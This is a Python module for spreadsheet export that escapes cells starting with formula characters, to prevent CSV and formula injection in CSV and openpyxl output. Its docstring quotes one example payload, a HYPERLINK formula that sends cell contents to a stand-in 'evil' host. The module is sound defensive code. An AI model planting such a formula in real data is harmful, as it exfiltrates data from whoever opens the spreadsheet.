"""Spreadsheet exports that a spreadsheet cannot run (CSV / formula injection).

Excel, LibreOffice and Numbers read a cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return as a formula (OWASP "CSV
Injection"): a name such as ``=HYPERLINK("http://evil/?"&A1,"点击")`` typed
at registration would run on the office's machine when the roster is opened.
``cell(value)`` puts a leading apostrophe before such a text, so the
spreadsheet shows it as text; every CSV a service writes goes through
``csv_row`` (or ``writer``). Numbers (int, float) are written as they are,
including negative ones (they are not text the user typed).
"""
import csv
import io

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value):
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, (int, float)):
        text = str(value)
        if text.startswith(FORMULA_STARTS):
            return "'" + text
        return text
    return value


def csv_row(values):
    return [cell(v) for v in values]


def xlsx_row(values):
    """A row for openpyxl's ``append``, which stores any text starting with
    ``=`` as a formula: texts escaped as in ``csv_row``, empty cells kept empty."""
    return [None if v is None else cell(v) for v in values]


class _SafeWriter:
    def __init__(self, inner):
        self._inner = inner

    def writerow(self, row):
        return self._inner.writerow(csv_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(out, **kwargs):
    """``csv.writer`` whose every text cell is escaped with ``cell``."""
    return _SafeWriter(csv.writer(out, **kwargs))


def workbook(title, header, rows, sheet="Sheet1"):
    """An .xlsx file (bytes) of a title line, a header and rows, every row
    through ``xlsx_row`` (no text typed by a user becomes a formula); the header
    bold and the columns as wide as their longest text."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    wb = Workbook()
    ws = wb.active
    ws.title = sheet[:31]
    ws.append(xlsx_row([title]))
    ws["A1"].font = Font(bold=True, size=14)
    ws.append(xlsx_row(header))
    for c in ws[2]:
        c.font = Font(bold=True)
    widths = [len(str(h)) for h in header]
    for row in rows:
        row = xlsx_row(row)
        ws.append(row)
        widths = [max(w, len(str(v or ""))) for w, v in zip(widths, row)] + widths[len(row):]
    for n, w in enumerate(widths, 1):
        ws.column_dimensions[ws.cell(row=2, column=n).column_letter].width = min(2 * w + 2, 40)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()
